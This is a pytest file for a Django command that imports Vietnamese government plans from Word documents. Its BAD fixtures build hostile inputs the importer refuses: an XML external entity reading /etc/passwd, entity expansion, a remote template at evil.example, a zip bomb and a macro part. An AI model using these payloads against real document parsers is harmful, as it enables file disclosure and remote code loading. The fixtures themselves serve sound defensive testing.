"""`import_plan` of a Word document: its text in order, its appendix, and what is refused."""

import io
import zipfile
from collections.abc import Callable
from datetime import date
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from django.core.management import CommandError, call_command
from docx import Document
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from plan_pages.importers.docx_text import read_docx
from plan_pages.importers.errors import NotAPlanError
from plan_pages.importers.plan_file import read_plan_file
from plan_pages.models import CriteriaSet, Plan, PlanIndexPage, PlanPage, PlanTask
from plan_pages.services.importing import import_plan
from tests.corpus.plan_documents import PLANS, TASKS, word_file
from tests.factories.plan_pages import UnitFactory

FILE = PLANS / "ke-hoach-2023.docx"
DOCUMENT = "word/document.xml"


def run(path: Path, **options: Any) -> str:
    out = StringIO()
    call_command("import_plan", str(path), stdout=out, **options)
    return out.getvalue()


@pytest.fixture
def index(plan_index: PlanIndexPage) -> PlanIndexPage:
    """With the units of the appendix and one criteria set."""
    for code in ("VP", "QLDD", "TTR"):
        UnitFactory(code=code)
    CriteriaSet.objects.create(name="QD876_2022")
    return plan_index


def saved(document: Any) -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def with_part(name: str, change: Callable[[bytes], bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(FILE) as old, zipfile.ZipFile(out, "w", 8) as new:
        names = dict.fromkeys([*old.namelist(), name])
        for entry in names:
            content = old.read(entry) if entry in old.namelist() else b""
            new.writestr(entry, change(content) if entry == name else content)
    return out.getvalue()


def test_a_word_document_becomes_a_draft_with_its_tasks(index: PlanIndexPage) -> None:
    run(FILE)
    page = PlanPage.objects.get(slug="ke-hoach-2023")
    assert (page.live, page.plan.number) == (False, "45/KH-STNMT")
    assert page.plan.issued_on == date(2023, 9, 5)
    assert [section.number for section in page.outline.sections] == ["I", "II"]
    assert page.recipient_lines == ["Như trên", "Sở Nội vụ", "Lưu: VT, VP"]
    assert (page.signed_for, page.signatory_name) == ("KT. GIÁM ĐỐC", "Vũ Chí Hiếu")
    tasks = page.plan.tasks.order_by("number")
    assert [task.title for task in tasks] == [task[2] for task in TASKS]
    assert tasks[2].due_on == date(2023, 11, 29)
    assert [unit.code for unit in tasks[0].supporting_units.order_by("code")] == ["QLDD", "TTR"]


def test_importing_the_document_again_changes_nothing(index: PlanIndexPage) -> None:
    import_plan(FILE.read_bytes(), index)
    before = list(PlanTask.objects.values())
    again = import_plan(FILE.read_bytes(), index)
    assert again.created is False
    assert list(PlanTask.objects.values()) == before


def test_an_appendix_with_a_wrong_row_is_reported_and_none_of_it_imported(
    index: PlanIndexPage,
) -> None:
    wrong = (*TASKS, ("4", "", "Việc", "", "Quý IV/2023", "Phòng Không Có", ""))
    result = import_plan(word_file(wrong), index)
    assert result.tasks is not None
    assert [(error.row, error.code) for error in result.tasks.errors] == [(5, "unknown_unit")]
    assert Plan.objects.count() == 1
    assert not PlanTask.objects.exists()


def test_a_document_without_an_appendix_is_a_plan_without_tasks(index: PlanIndexPage) -> None:
    assert import_plan(word_file(()), index).tasks is None
    assert not PlanTask.objects.exists()


def test_a_dry_run_writes_nothing(index: PlanIndexPage) -> None:
    assert "ke-hoach-2023" in run(FILE, dry_run=True)
    assert not Plan.objects.exists()


def test_layout_tables_are_read_column_by_column() -> None:
    lines = read_docx(FILE.read_bytes()).lines
    assert lines[:3] == ["UBND TỈNH KHÁNH HÒA", "SỞ TÀI NGUYÊN VÀ MÔI TRƯỜNG", "Số: 45/KH-STNMT"]
    at = lines.index("Nơi nhận:")
    assert lines[at + 4] == "KT. GIÁM ĐỐC"


def test_bullets_and_numbers_that_word_draws_are_text() -> None:
    document = Document()
    for text in ("một", "hai"):
        document.add_paragraph(text, style="List Number")
    document.add_paragraph("ba", style="List Bullet")
    assert read_docx(saved(document)).lines == ["1. một", "2. hai", "- ba"]


def test_tracked_changes_read_as_accepted() -> None:
    document = Document()
    paragraph = document.add_paragraph("Giữ ")
    added, gone = OxmlElement("w:ins"), OxmlElement("w:del")
    for parent, tag, text in ((added, "w:t", "thêm"), (gone, "w:delText", "bỏ")):
        run_ = OxmlElement("w:r")
        piece = OxmlElement(tag)
        piece.text = text
        run_.append(piece)
        parent.append(run_)
        paragraph._p.append(parent)
    assert read_docx(saved(document)).lines == ["Giữ thêm"]


def test_text_in_a_content_control_is_not_lost() -> None:
    document = Document()
    paragraph = document.add_paragraph("trong khung")
    control, content = OxmlElement("w:sdt"), OxmlElement("w:sdtContent")
    document.element.body.insert(0, control)
    control.append(content)
    content.append(paragraph._p)
    assert read_docx(saved(document)).lines == ["trong khung"]


def test_an_appendix_that_goes_on_in_a_second_table_is_one() -> None:
    document: Any = Document(io.BytesIO(FILE.read_bytes()))
    more: Any = document.add_table(rows=0, cols=7)
    cells = more.add_row().cells
    for cell, text in zip(cells, ("4", "", "Việc", "", "Quý IV/2023", "VP", ""), strict=True):
        cell.text = text
    appendix = read_plan_file(saved(document)).appendix
    assert appendix is not None
    assert [row.no for row in appendix.rows] == [1, 2, 3, 4]


def test_merged_rows_of_an_appendix_are_errors_and_headings_notes() -> None:
    document = Document(io.BytesIO(FILE.read_bytes()))
    table: Any = document.tables[-1]
    table.cell(1, 1).merge(table.cell(2, 1))
    heading = table.add_row().cells
    heading[0].merge(heading[6]).text = "I. Cải cách thể chế"
    appendix = read_plan_file(saved(document)).appendix
    assert appendix is not None
    assert [(error.row, error.code) for error in appendix.errors] == [
        (2, "merged_cells"),
        (3, "merged_cells"),
    ]
    assert [note.row for note in appendix.notes] == [5]


def with_template(target: bytes) -> bytes:
    rels = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" TargetMode="External" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/attachedTemplate" Target="' + target + b'"/>'
        b"</Relationships>"
    )
    return with_part("word/_rels/settings.xml.rels", lambda _old: rels)


BAD: dict[str, tuple[Callable[[], bytes], str]] = {
    "external entity": (
        lambda: with_part(
            DOCUMENT,
            lambda xml: b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + xml[55:],
        ),
        "outside_files",
    ),
    "billion laughs": (
        lambda: with_part(DOCUMENT, lambda xml: b'<!DOCTYPE x [<!ENTITY a "aaa">]>' + xml[55:]),
        "outside_files",
    ),
    "template elsewhere": (lambda: with_template(b"http://evil.example/t.dotm"), "outside_files"),
    "zip bomb": (lambda: with_part("word/media/a.xml", lambda _old: b"0" * 60_000_000), "zip_bomb"),
    "macros": (lambda: with_part("word/vbaProject.bin", lambda _old: b"x"), "macros"),
    "not xml": (lambda: with_part(DOCUMENT, lambda _old: b"<w"), "broken"),
    "cut off": (lambda: FILE.read_bytes()[:3000], "broken"),
    "old .doc": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old_format"),
    "with a password": (
        lambda: b"\xd0\xcf\x11\xe0" + "EncryptedPackage".encode("utf-16-le"),
        "encrypted",
    ),
    "empty": (lambda: saved(Document()), "empty"),
    "a workbook": (
        lambda: with_part("xl/workbook.xml", lambda _old: b"<x/>"),
        "not_a_document",
    ),
    "another document": (lambda: saved(_letter()), "another_document"),
}


def _letter() -> Any:
    document = Document()
    document.add_paragraph("GIẤY MỜI")
    return document


@pytest.mark.parametrize("name", BAD)
def test_bad_input_is_one_sentence_and_nothing_created(
    index: PlanIndexPage, tmp_path: Path, name: str
) -> None:
    make, code = BAD[name]
    path = tmp_path / "file.docx"
    path.write_bytes(make())
    with pytest.raises(NotAPlanError) as refused:
        read_plan_file(path.read_bytes())
    assert refused.value.code == code
    with pytest.raises(CommandError) as said:
        run(path)
    assert str(said.value).endswith(".")
    assert "\n" not in str(said.value)
    assert not Plan.objects.exists()


def test_the_own_template_of_an_office_refuses_nothing() -> None:
    assert read_docx(with_template(rb"file:///C:\Users\an\Normal.dotm")).lines


def test_a_style_that_numbers_its_paragraphs_counts_too() -> None:
    document = Document()
    style = document.styles["List Number"]
    assert style.element.find(qn("w:pPr")) is not None
    document.add_paragraph("một", style="List Number")
    document.add_paragraph("ngoài")
    document.add_paragraph("hai", style="List Number")
    assert read_docx(saved(document)).lines == ["1. một", "ngoài", "2. hai"]
